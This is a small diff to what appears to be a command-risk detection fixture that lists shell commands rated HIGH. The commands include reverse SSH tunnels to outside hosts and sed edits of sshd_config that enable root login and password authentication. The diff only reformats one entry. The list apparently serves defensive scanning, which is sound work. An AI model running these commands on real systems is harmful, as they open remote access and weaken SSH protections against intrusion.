@@ -60,10 +60,7 @@ LISTENERS_AND_SHELLS = [
     ("ssh -R 0.0.0.0:2222:localhost:22 user@203.0.113.5", HIGH),
     ("ssh -N -R 8080:localhost:22 tunnel@example.com", HIGH),
     ("sudo sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", HIGH),
-    (
-        "sudo sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config",
-        HIGH,
-    ),
+    ("sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config", HIGH),
 ]
 
 SECRETS_SENT = [
